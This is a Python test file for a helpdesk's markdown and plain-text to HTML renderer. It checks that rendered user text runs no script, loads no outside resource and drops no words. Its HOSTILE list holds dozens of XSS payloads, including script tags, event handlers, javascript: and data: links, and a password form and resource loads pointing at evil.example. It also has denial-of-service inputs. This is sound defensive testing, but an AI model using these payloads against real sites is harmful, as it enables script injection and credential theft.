"""What people typed becomes HTML that runs nothing, loads nothing and loses nothing."""

import re
import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk_core.text.markdown import DEEPEST, LARGEST, markdown_to_html, plain_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<style>p{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<img name=getElementById id=cookie>",
    "<!-- --><script>alert(1)</script> --!>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p></main><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    '[x](https://a.example "><script>alert(1)</script>")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](https://a.example/p.png)',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    'https://a.example/"><script>alert(1)</script>',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/`onmouseover=alert(1)`",
    'mail"onmouseover=alert(1)@a.example',
    "javascript://a.example/%0aalert(1)",
    "{{ 7*7 }} {% include 'x' %} ${7*7} %(x)s {0.__init__}",
    "\0<script\0>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip

ALLOWED = {
    "a": {"href", "rel", "title"},
    "ol": {"start"},
    **{tag: set() for tag in ("p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "li")},
    **{tag: set() for tag in ("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td")},
}


class Page(HTMLParser):
    """Everything a browser would see in a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.text = ""
        self.other = []
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def links(self):
        return [attributes.get("href") for tag, attributes in self.elements if tag == "a"]


def assert_harmless(html):
    page = Page(html)
    assert not page.other
    for tag, attributes in page.elements:
        assert tag in ALLOWED, html
        assert attributes.keys() <= ALLOWED[tag], html
        if tag == "a":
            assert attributes["rel"] == "noopener nofollow"
            assert re.match(r"(https?://|mailto:|tel:)", attributes.get("href", "https://")), html
    return page


RENDERERS = pytest.mark.parametrize("render", [markdown_to_html, plain_to_html])


@RENDERERS
@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_gets_through(render, payload):
    for text in (payload, f"Guten Tag\n{payload}\nGruß", f"**{payload}**", f"- {payload}", f"> {payload}"):
        page = assert_harmless(render(text))
        assert "49" not in page.text


def test_the_list_of_hostile_texts_is_long_enough():
    assert len(set(HOSTILE)) >= 40


MARKS = st.sampled_from([*"<>\"'&`*_[]()!#-+|:/\\ \n\t~=.;{}%0a", "https://", "javascript:", "x@a.de", "```", "\n\n"])


@RENDERERS
@settings(max_examples=150, deadline=None)
@given(pieces=st.lists(MARKS, max_size=60))
def test_no_text_gets_through_as_anything_else_than_text(render, pieces):
    assert_harmless(render("".join(pieces)))


@settings(max_examples=100, deadline=None)
@given(pieces=st.lists(MARKS, max_size=60))
def test_a_sanitised_text_is_left_alone_by_the_next_sanitiser(pieces):
    html = str(markdown_to_html("".join(pieces)))
    cleaner = nh3.Cleaner(
        tags=set(ALLOWED), attributes={"a": {"href", "title"}, "ol": {"start"}}, link_rel="noopener nofollow"
    )
    assert cleaner.clean(html) == html


@settings(max_examples=150, deadline=None)
@given(pieces=st.lists(MARKS | st.sampled_from(["wort", "zahl"]), max_size=40))
def test_no_word_is_lost(pieces):
    text = "".join(f"{piece}{index}" if piece in {"wort", "zahl"} else piece for index, piece in enumerate(pieces))
    words = [f"{piece}{index}" for index, piece in enumerate(pieces) if piece in {"wort", "zahl"}]
    for render in (markdown_to_html, plain_to_html):
        html = str(render(text))
        assert [word for word in words if word not in html] == []


def test_the_usual_marks_are_laid_out():
    text = (
        "# Titel\n\n**fett** _schräg_ `code`\nneue Zeile\n\n1. eins\n2. zwei\n\n| a | b |\n|---|---|\n| c | d |\n\n---"
    )
    html = markdown_to_html(text)
    for piece in (
        "<h3>Titel</h3>",
        "<strong>fett</strong> <em>schräg</em> <code>code</code><br>",
        "<ol>\n<li>eins</li>",
        "<td>d</td>",
        "<hr>",
    ):
        assert piece in html


def test_what_windows_people_type_stays_as_typed():
    text = r"\\server\freigabe und C:\_neu\*.txt und &nbsp;"
    assert Page(markdown_to_html(text)).text.strip() == text


def test_the_mark_of_a_signature_makes_no_heading():
    assert "<h" not in markdown_to_html("Freundliche Grüße\n--\nKarin Krüger")


def test_a_footnote_is_kept():
    assert "[1]: " in Page(markdown_to_html("Siehe unten.\n\n[1]: https://a.example/x")).text


def test_words_after_a_fence_are_kept_but_a_language_is_not_shown():
    assert Page(markdown_to_html("```Fehler: Datei fehlt\nx\n```")).text.strip() == "Fehler: Datei fehlt\nx"
    assert Page(markdown_to_html("```python\nx\n```")).text.strip() == "x"


@RENDERERS
def test_a_text_that_is_quoted_deeper_than_any_layout_is_kept(render):
    for depth in (DEEPEST - 2, DEEPEST - 1, DEEPEST, DEEPEST + 1, 500):
        assert "ganz unten" in Page(render("> " * depth + "ganz unten")).text
        assert "ganz unten" in Page(render("- " * depth + "ganz unten")).text


def test_a_very_long_text_is_shown_as_typed():
    text = "**a**\n" * (LARGEST // 6 + 1)
    assert "<strong>" not in markdown_to_html(text)
    assert Page(markdown_to_html(text)).text.count("**a**") == LARGEST // 6 + 1


def test_images_are_links_and_load_nothing():
    html = markdown_to_html("![Bildschirm](https://a.example/b.png) [![c](https://a.example/d.png)](https://e.example)")
    assert "<img" not in html
    assert Page(html).links == ["https://a.example/b.png", "https://e.example"]
    assert "!" not in Page(html).text


ADDRESSES = [
    ("Siehe https://a.example/b.", ["https://a.example/b"]),
    ("(https://a.example/b)", ["https://a.example/b"]),
    ("https://a.example/b(c)", ["https://a.example/b(c)"]),
    ("https://a.example/?a=1&b=2!", ["https://a.example/?a=1&b=2"]),
    ("http://a.example, https://b.example;", ["http://a.example", "https://b.example"]),
    ("an k.krueger@schule.example.", ["mailto:k.krueger@schule.example"]),
    ("<https://a.example>", ["https://a.example"]),
    ("kein@ link.de @x a@b http:// https://", []),
    ("ftp://a.example javascript:alert(1) /pfad", []),
    ("xhttps://a.example", []),
    ("https://... http://) https://", []),
]


@RENDERERS
@pytest.mark.parametrize(("text", "links"), ADDRESSES)
def test_addresses_in_a_text_are_links(render, text, links):
    page = assert_harmless(render(text))
    assert page.links == links
    if render is plain_to_html:
        assert page.text.strip() == text


def test_an_address_in_code_or_in_a_link_is_left_alone():
    assert Page(markdown_to_html("`https://a.example`")).links == []
    assert Page(markdown_to_html("[https://a.example](https://b.example)")).links == ["https://b.example"]


def test_plain_text_keeps_lines_paragraphs_and_indents():
    html = plain_to_html("\r\nGuten Tag,\r\n\r\n  * eins\r\n\tzwei & drei\r\n \r\n\r\nGruß\n")
    nbsp = "\N{NO-BREAK SPACE}"
    assert html == f"<p>Guten Tag,</p>\n<p>{nbsp * 2}* eins<br>\n{nbsp * 4}zwei &amp; drei</p>\n<p>Gruß</p>\n"


def test_an_empty_text_is_nothing():
    assert markdown_to_html("") == plain_to_html("") == plain_to_html(" \n\n ") == ""


SLOW = {
    "brackets": "[" * LARGEST,
    "images": "![" * (LARGEST // 2),
    "stars": "*a " * (LARGEST // 3),
    "underscores": "_a_" * (LARGEST // 3),
    "ticks": "".join("`" * count + " " for count in range(300)),
    "quotes": ">" * LARGEST,
    "lists": "\n".join(" " * (2 * depth) + "- x" for depth in range(200)),
    "mail addresses": "a@" * (LARGEST // 2),
    "dots": "a@" + "a." * (LARGEST // 2),
    "closing brackets": ("https://a.de/" + ")" * 1900 + " ") * 25,
    "table": "a|b\n-|-\n" + "a|b\n" * (LARGEST // 4 - 10),
    "blank lines": " \n" * (LARGEST // 2),
    "entities": "&" * LARGEST,
    "image links": "![a](http://b.de) " * (LARGEST // 18),
}


@RENDERERS
@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(render, name):
    started = time.process_time()
    render(SLOW[name])
    assert time.process_time() - started < 3
